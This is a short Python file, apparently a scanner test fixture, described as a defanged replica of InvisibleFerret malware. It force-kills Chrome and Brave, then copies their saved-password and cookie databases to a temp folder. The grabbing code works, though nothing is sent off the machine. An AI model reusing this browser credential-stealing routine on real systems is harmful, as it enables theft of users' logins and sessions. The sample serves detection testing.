# Defanged replica of InvisibleFerret's ssh_kill step: the browsers are
# killed so their databases are no longer locked, then the cookie and
# password stores are copied out. Here they are copied to a temp folder only.
import os
import platform
import shutil
import subprocess
import tempfile

BROWSERS = {
    "chrome.exe": os.path.join("Google", "Chrome", "User Data", "Default"),
    "brave.exe": os.path.join("BraveSoftware", "Brave-Browser", "User Data", "Default"),
}


def kill_browsers():
    if platform.system() == "Windows":
        for exe in BROWSERS:
            subprocess.call(f"taskkill /F /IM {exe}", shell=True)  # expect: HS237 high
    else:
        subprocess.call(["killall", "Google Chrome", "Brave Browser"])


def grab():
    kill_browsers()
    out = tempfile.mkdtemp()
    base = os.environ.get("LOCALAPPDATA", "")
    for exe, profile in BROWSERS.items():
        for name in ("Login Data", "Cookies"):
            src = os.path.join(base, profile, name)
            if os.path.exists(src):
                shutil.copy2(src, os.path.join(out, exe + "-" + name))
    return out
